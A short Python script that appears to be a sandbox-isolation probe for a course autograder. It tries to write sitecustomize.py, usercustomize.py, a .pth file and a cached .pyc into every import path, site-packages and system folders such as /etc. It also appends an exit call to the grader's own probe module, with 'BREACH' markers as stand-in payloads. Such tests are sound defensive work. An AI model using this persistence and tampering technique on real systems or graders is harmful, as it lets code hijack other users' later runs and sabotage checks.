# aim: change libraries, so that every later submission runs the change
# task: share  points: 0
# lines: 66, 68
import os
import site
import sys

for folder in [*sys.path, *site.getsitepackages(), "/course", "/course/cyberattache", "/usr/lib", "/etc"]:
    for name in ("sitecustomize.py", "poison.pth", "usercustomize.py", "__pycache__/probe.cpython-311.pyc"):
        try:
            with open(os.path.join(folder or "/", name), "w") as file:
                file.write("print('BREACH')")
            print("BREACH", folder)
        except OSError:
            pass
import cyberattache.probe as probe

try:
    open(probe.__file__, "a").write("raise SystemExit")
    print("BREACH")
except OSError:
    pass
